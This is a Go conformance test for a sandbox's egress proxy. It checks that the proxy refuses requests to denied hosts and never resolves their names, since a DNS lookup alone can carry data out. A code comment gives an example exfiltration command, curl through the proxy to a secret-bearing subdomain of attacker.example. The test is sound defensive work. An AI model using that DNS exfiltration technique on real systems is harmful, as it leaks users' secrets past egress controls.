package conformance

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"

	"github.com/dsh-dev/dsh/execworld"
	"github.com/dsh-dev/dsh/netpolicy"
)

// checkDeniedNamesNeverResolved: with an address allow entry in the
// egress policy (the suite's 127.0.0.1:PORT), the proxy must not look up
// names that no name rule allows — the lookup alone would carry data out
// in DNS (curl -x $HTTP_PROXY http://<secret>.attacker.example/). The
// world's proxy resolves through a recording stub that answers only the
// control name, so no query leaves the machine whatever the proxy does.
//
// The control name, allowed by a host entry on the same port, must be
// looked up and its answer judged (the stub answers 127.0.0.1, which is
// the world's own loopback to its proxy and refused as such): it proves
// the stub is the resolver in use, so zero recorded queries means zero
// queries.
func checkDeniedNamesNeverResolved(ctx context.Context, s *suite) error {
	addrEntry := hostPort(s.allowed.URL)
	_, port, _ := net.SplitHostPort(addrEntry)
	control := "control-" + randHex(4) + ".dsh-conformance.test"
	pol, err := netpolicy.New(netpolicy.Config{Default: "deny", Allow: []string{addrEntry, control + ":" + port}})
	if err != nil {
		return err
	}
	rec := &netpolicy.RecordingResolver{Next: netpolicy.StubResolver{control: {netip.MustParseAddr("127.0.0.1")}}}
	w, err := s.openWith(ctx, nil, func(o *execworld.Options) {
		o.Egress, o.Resolver = pol, rec
	})
	if err != nil {
		return err
	}
	defer w.w.Close()

	var leaks []string
	for i := range 3 {
		leaks = append(leaks, fmt.Sprintf("dsh-leak-%d-%s.attacker.test", i, randHex(6)))
	}
	var problems []string
	// Plain HTTP: the proxy reads the name from the request target.
	for _, n := range leaks[:2] {
		out, err := w.probeRun(ctx, "http", "http://"+n+":"+port+"/")
		if err != nil {
			return err
		}
		if len(out) != 1 || !strings.HasPrefix(out[0], "status 403 ") {
			problems = append(problems, fmt.Sprintf("GET http://%s:%s/ through the proxy: %v; want status 403", n, port, out))
		}
	}
	// CONNECT, on the allowed port and on another one.
	targets := []string{leaks[1] + ":" + port, leaks[2] + ":" + port, leaks[2] + ":443"}
	out, err := w.probeRun(ctx, append([]string{"connect"}, targets...)...)
	if err != nil {
		return err
	}
	if len(out) != len(targets) {
		return fmt.Errorf("probe connect %v said %q; want one line per target", targets, out)
	}
	for i, t := range targets {
		if !strings.HasPrefix(out[i], "connect "+t+" HTTP/1.1 403 ") {
			problems = append(problems, fmt.Sprintf("CONNECT %s through the proxy: %q; want HTTP/1.1 403", t, out[i]))
		}
	}
	var looked []string
	for _, q := range rec.Queries() {
		if q != control {
			looked = append(looked, q)
		}
	}
	if len(looked) > 0 {
		problems = append(problems, fmt.Sprintf("the proxy looked up names that no allow entry names (policy allow %q): %q", addrEntry, looked))
	}

	// The control: a name allowed by name is looked up, and the stub's
	// answer is what the proxy judged.
	out, err = w.probeRun(ctx, "http", "http://"+control+":"+port+"/ok")
	if err != nil {
		return err
	}
	if len(out) != 1 || !strings.HasPrefix(out[0], "status 403 ") || !strings.Contains(out[0], "127.0.0.1 is the world's own loopback") || !slices.Contains(rec.Queries(), control) {
		problems = append(problems, fmt.Sprintf("control: GET of %s (allowed by name, resolved by the stub to 127.0.0.1) said %v, queries %q; want the name looked up and its answer refused as the world's own loopback — is the world's proxy using execworld.Options.Resolver?", control, out, rec.Queries()))
	}
	if len(problems) > 0 {
		return fmt.Errorf("denied names: %s", strings.Join(problems, "\n"))
	}
	return nil
}
